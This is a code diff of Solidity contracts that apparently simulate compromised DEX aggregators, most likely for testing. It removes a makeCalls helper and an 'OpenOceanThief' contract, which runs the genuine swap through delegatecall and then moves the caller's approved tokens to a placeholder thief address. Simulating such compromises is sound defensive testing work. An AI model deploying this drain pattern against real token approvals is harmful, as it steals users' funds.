@@ -16,13 +16,6 @@ contract Puppet {
         bool must;
     }
 
-    struct CallDescription {
-        uint256 target;
-        uint256 gasLimit;
-        uint256 value;
-        bytes data;
-    }
-
     /// The program for calls of any other method, such as a pool's.
     mapping(bytes4 => bytes) private taught;
 
@@ -53,11 +46,6 @@ contract Puppet {
 
     function finalTransactionProcessing(address, address, address, bytes calldata script) external {
         if (script.length > 0) _play(script);
-    }
-
-    function makeCalls(CallDescription[] calldata calls) external payable {
-        for (uint256 i = 0; i + 1 < calls.length; i++) this.callBytes(calls[i].data);
-        if (calls.length > 0) _play(calls[calls.length - 1].data);
     }
 
     /// 1inch's Clipper: it pays the requested amount from its own balance.
@@ -191,27 +179,6 @@ contract VeloraThief {
             }
         }
         SafeToken.move(token, msg.sender, to, Purse.within(token, msg.sender));
-    }
-}
-
-/// An implementation that OpenOcean's admin could set: the genuine swap, and then the rest.
-contract OpenOceanThief {
-    address private constant HONEST = 0x0E8C000000000000000000000000000000000001;
-    address private constant THIEF = 0xBaD0000000000000000000000000000000000001;
-
-    fallback() external {
-        (bool ok, bytes memory answer) = HONEST.delegatecall(msg.data);
-        if (!ok) {
-            assembly ("memory-safe") {
-                revert(add(answer, 32), mload(answer))
-            }
-        }
-        uint256 description = 4 + uint256(bytes32(msg.data[36:68]));
-        address token = address(bytes20(msg.data[description + 12:description + 32]));
-        SafeToken.move(token, msg.sender, THIEF, Purse.within(token, msg.sender));
-        assembly ("memory-safe") {
-            return(add(answer, 32), mload(answer))
-        }
     }
 }
 
